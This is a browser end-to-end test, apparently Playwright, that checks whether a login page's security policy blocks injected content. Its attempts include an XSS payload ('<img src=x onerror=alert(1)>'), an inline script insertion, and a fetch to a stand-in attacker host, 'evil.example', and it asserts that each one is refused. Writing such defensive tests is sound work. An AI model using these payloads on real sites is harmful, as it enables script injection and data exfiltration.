import { expect, test } from "./fixtures.ts";

test("whatever a stranger gets into a page neither runs, nor is drawn, nor leaves it", async ({ browser, stack }) => {
  // The fixture's page would fail on these intended breaches.
  const page = await browser.newPage();
  await page.goto(`${stack.url}/login`);
  const tries = await page.evaluate(async () => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      document.documentElement.dataset.breaches = `${document.documentElement.dataset.breaches} ${effectiveDirective}`;
    });
    const isRefused = async (attempt: () => unknown) => {
      try {
        await attempt();
        return false;
      } catch {
        return true;
      }
    };
    const script = document.createElement("script");
    const markup = await isRefused(() => {
      document.body.innerHTML = "<img src=x onerror=alert(1)>";
    });
    const inline = await isRefused(() => {
      script.textContent = "globalThis.stolen = true";
      document.body.append(script);
    });
    const sent = await isRefused(() => fetch("https://evil.example/"));
    return { markup, inline, sent, ran: "stolen" in globalThis };
  });
  expect(tries).toEqual({ markup: true, inline: true, sent: true, ran: false });
  for (const directive of ["require-trusted-types-for", "connect-src"])
    await expect(page.locator("html")).toHaveAttribute("data-breaches", new RegExp(`\\b${directive}\\b`));
  await page.close();
});
